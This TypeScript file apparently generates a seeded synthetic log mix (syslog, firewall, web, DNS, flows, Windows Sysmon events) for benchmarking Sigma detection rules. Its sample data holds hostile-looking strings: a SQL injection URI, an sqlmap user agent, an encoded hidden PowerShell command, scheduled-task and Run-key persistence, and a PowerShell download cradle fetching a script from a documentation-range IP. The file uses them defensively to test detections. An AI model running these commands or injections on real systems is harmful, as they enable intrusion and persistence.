/**
 * A realistic event mix for the Sigma benchmark, generated from a seed so runs compare. Shapes follow what
 * the collectors emit (ECS, vendor names as the decoders write them, flows as libs/flow maps them, Windows
 * JSON as NXLog forwards it) plus the Sigma taxonomy field names, so the same mix serves the unrouted run
 * (`--pipeline none`: rule field names verbatim) and the run through the citysoc pipeline.
 */
export type Event = Record<string, unknown>;

export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)] as T;
const ip = (r: () => number, net: string): string =>
  `${net}.${Math.floor(r() * 254) + 1}.${Math.floor(r() * 254) + 1}`;
const USERS = ['alice', 'bob', 'carol', 'root', 'admin', 'svc_backup', 'www-data', 'dave', 'postgres'];
const HOSTS = ['web01', 'web02', 'db01', 'fw-edge', 'dc01', 'ws-0042', 'ws-0107', 'mail01', 'proxy01'];

function base(r: () => number, i: number, module: string, dataset: string): Event {
  return {
    '@timestamp': new Date(1_767_225_600_000 + i * 37).toISOString(),
    event: { module, dataset, id: `ev-${i}` },
    host: { name: pick(r, HOSTS) },
    observer: { hostname: pick(r, HOSTS), type: 'syslog' },
  };
}

function authLog(r: () => number, i: number): Event {
  const user = pick(r, USERS);
  const src = ip(r, pick(r, ['10.20', '198.51', '203.0']));
  const [prog, message] = pick(r, [
    ['sshd', `Failed password for invalid user ${user} from ${src} port ${1024 + i} ssh2`],
    ['sshd', `Accepted publickey for ${user} from ${src} port ${1024 + i} ssh2`],
    ['sshd', `pam_unix(sshd:session): session opened for user ${user} by (uid=0)`],
    [
      'sudo',
      `${user} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx`,
    ],
    ['sudo', `pam_unix(sudo:auth): authentication failure; logname=${user} uid=1000 euid=0 tty=/dev/pts/1`],
    ['CRON', `(root) CMD (/usr/lib/sa/sa1 1 1)`],
    ['systemd-logind', `New session ${i % 900} of user ${user}.`],
    ['su', `(to root) ${user} on pts/2`],
  ] as const);
  return {
    ...base(r, i, 'syslog', 'syslog.auth'),
    message,
    process: { name: prog, pid: 1000 + (i % 30000) },
    log: { syslog: { appname: prog, facility: { name: 'authpriv' }, severity: { name: 'info' } } },
    user: { name: user },
    source: { ip: src },
  };
}

function firewall(r: () => number, i: number): Event {
  const src = ip(r, pick(r, ['10.1', '10.2', '192.168']));
  const dst = ip(r, pick(r, ['8.8', '1.1', '203.0', '151.101']));
  const port = pick(r, [22, 53, 80, 443, 445, 3389, 8080, 123, 25]);
  const action = pick(r, ['accept', 'deny', 'drop', 'close']);
  const vendor = pick(r, ['Fortinet', 'Cisco', 'Palo Alto Networks', 'Juniper', 'Huawei']);
  return {
    ...base(r, i, 'syslog', 'syslog'),
    message: `action=${action} srcip=${src} dstip=${dst} dstport=${port} proto=6 policyid=${i % 40}`,
    observer: { vendor, product: 'firewall', type: 'firewall' },
    process: { name: pick(r, ['filterlog', 'RT_FLOW', 'kernel']) },
    source: { ip: src, port: 1024 + (i % 60000) },
    destination: { ip: dst, port },
    network: { transport: 'tcp' },
    event: { module: 'syslog', dataset: 'syslog', action, category: ['network'], id: `ev-${i}` },
    src_ip: src,
    dst_ip: dst,
    dst_port: port,
    action,
  };
}

const URIS = [
  '/index.html',
  '/wp-login.php',
  '/api/v1/users?id=42',
  '/static/app.js',
  '/search?q=city+council',
  '/admin/config.php',
  "/products?id=1' OR '1'='1",
  '/cgi-bin/test.cgi',
  '/.git/config',
  '/login?next=%2Fdashboard',
];
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) Mobile/15E148',
  'curl/8.5.0',
  'python-requests/2.31.0',
  'sqlmap/1.7.2#stable (https://sqlmap.org)',
];

function web(r: () => number, i: number): Event {
  const uri = pick(r, URIS);
  const q = uri.indexOf('?');
  const stem = q >= 0 ? uri.slice(0, q) : uri;
  const query = q >= 0 ? uri.slice(q + 1) : '';
  const method = pick(r, ['GET', 'GET', 'GET', 'POST', 'HEAD']);
  const status = pick(r, [200, 200, 200, 301, 404, 403, 500]);
  const ua = pick(r, UAS);
  const client = ip(r, pick(r, ['198.51', '203.0', '10.30']));
  return {
    ...base(r, i, 'syslog', 'nginx.access'),
    url: { original: uri, path: stem, query },
    http: { request: { method }, response: { status_code: status } },
    user_agent: { original: ua },
    source: { ip: client },
    'cs-method': method,
    'cs-uri-stem': stem,
    'cs-uri-query': query,
    'c-uri': uri,
    'sc-status': status,
    'c-useragent': ua,
    'c-ip': client,
    'cs-host': 'portal.city.example',
  };
}

function dns(r: () => number, i: number): Event {
  const name = pick(r, [
    'portal.city.example',
    'www.google.com',
    'update.microsoft.com',
    `x${i % 5000}.cdn.example.net`,
    'api.telegram.org',
    'pastebin.com',
  ]);
  const rtype = pick(r, ['A', 'AAAA', 'TXT', 'MX']);
  return {
    ...base(r, i, 'syslog', 'syslog'),
    process: { name: 'named' },
    dns: { question: { name, type: rtype }, response_code: 'NOERROR' },
    source: { ip: ip(r, '10.1') },
    query: name,
    record_type: rtype,
    answer: ip(r, '93.184'),
  };
}

function flow(r: () => number, i: number): Event {
  return {
    ...base(r, i, 'netflow', 'flow'),
    event: { module: 'netflow', dataset: 'flow', kind: 'event', category: ['network'], id: `ev-${i}` },
    source: { ip: ip(r, '10.1'), port: 1024 + (i % 60000), bytes: Math.floor(r() * 1e6) },
    destination: { ip: ip(r, '151.101'), port: pick(r, [443, 80, 53, 22]), bytes: Math.floor(r() * 1e5) },
    network: { transport: pick(r, ['tcp', 'udp']), packets: Math.floor(r() * 1000) },
  };
}

const IMAGES = [
  'C:\\Windows\\System32\\svchost.exe',
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  'C:\\Windows\\explorer.exe',
  'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  'C:\\Windows\\System32\\rundll32.exe',
  'C:\\Windows\\System32\\conhost.exe',
  'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
  'C:\\Windows\\System32\\schtasks.exe',
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  'C:\\Windows\\System32\\net.exe',
  'C:\\Windows\\System32\\reg.exe',
];
const COMMANDS = [
  'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
  'cmd.exe /c whoami /all',
  'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1',
  'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US',
  'rundll32.exe C:\\Windows\\system32\\shell32.dll,Control_RunDLL',
  'schtasks /create /tn Updater /tr C:\\Users\\Public\\upd.exe /sc minute /mo 5',
  'net user administrator /domain',
  'reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
  'C:\\Windows\\Explorer.EXE',
];

/** Windows events as the forwarder sends them: EventData fields at the top, ECS wrapping around. */
function windows(r: () => number, i: number): Event {
  const image = pick(r, IMAGES);
  const user = `CITY\\${pick(r, USERS)}`;
  const common = {
    ...base(r, i, 'windows', 'windows.forwarded'),
    Computer: `${pick(r, HOSTS)}.city.local`,
  };
  const kind = r();
  if (kind < 0.45) {
    return {
      ...common,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: 1,
      Image: image,
      OriginalFileName: image.slice(image.lastIndexOf('\\') + 1),
      CommandLine: pick(r, COMMANDS),
      ParentImage: pick(r, IMAGES),
      ParentCommandLine: pick(r, COMMANDS),
      CurrentDirectory: 'C:\\Windows\\system32\\',
      User: user,
      IntegrityLevel: pick(r, ['Medium', 'High', 'System']),
      Hashes: `SHA256=${(i * 2654435761).toString(16).padStart(16, '0')}`,
      ProcessId: 4000 + (i % 5000),
    };
  }
  if (kind < 0.75) {
    const id = pick(r, [4624, 4625, 4634, 4672, 4688, 4720, 4732, 5140, 5145, 4768, 4769]);
    return {
      ...common,
      Channel: 'Security',
      EventID: id,
      Provider_Name: 'Microsoft-Windows-Security-Auditing',
      SubjectUserName: pick(r, USERS),
      SubjectDomainName: 'CITY',
      TargetUserName: pick(r, USERS),
      LogonType: pick(r, [2, 3, 5, 10]),
      IpAddress: ip(r, '10.1'),
      WorkstationName: pick(r, HOSTS),
      ProcessName: image,
      NewProcessName: image,
      ServiceName: 'krbtgt',
      TicketEncryptionType: pick(r, ['0x12', '0x17']),
      ShareName: '\\\\*\\IPC$',
      RelativeTargetName: 'srvsvc',
    };
  }
  if (kind < 0.85) {
    return {
      ...common,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: 3,
      Image: image,
      DestinationIp: ip(r, '151.101'),
      DestinationPort: pick(r, [443, 80, 445, 4444]),
      DestinationHostname: 'cdn.example.net',
      SourceIp: ip(r, '10.1'),
      Initiated: 'true',
      User: user,
    };
  }
  if (kind < 0.93) {
    return {
      ...common,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: 13,
      EventType: 'SetValue',
      Image: image,
      TargetObject: pick(r, [
        'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
        'HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents',
        'HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Start',
      ]),
      Details: pick(r, ['DWORD (0x00000002)', 'C:\\Users\\Public\\upd.exe', 'Binary Data']),
    };
  }
  return {
    ...common,
    Channel: 'Microsoft-Windows-PowerShell/Operational',
    EventID: 4104,
    ScriptBlockText: pick(r, [
      'Get-ChildItem -Path C:\\Logs | Remove-Item -Recurse',
      'IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.9/a.ps1")',
      'Import-Module ActiveDirectory; Get-ADUser -Filter *',
      '$s = Get-Service -Name Spooler; $s.Status',
    ]),
    Path: '',
  };
}

/** The mix: syslog auth 20%, firewall 25%, web 15%, DNS 12%, flows 10%, Windows 18%. */
export function eventMix(n: number, seed = 1): Event[] {
  const r = rng(seed);
  const out: Event[] = [];
  for (let i = 0; i < n; i++) {
    const x = r();
    out.push(
      x < 0.2
        ? authLog(r, i)
        : x < 0.45
          ? firewall(r, i)
          : x < 0.6
            ? web(r, i)
            : x < 0.72
              ? dns(r, i)
              : x < 0.82
                ? flow(r, i)
                : windows(r, i),
    );
  }
  return out;
}
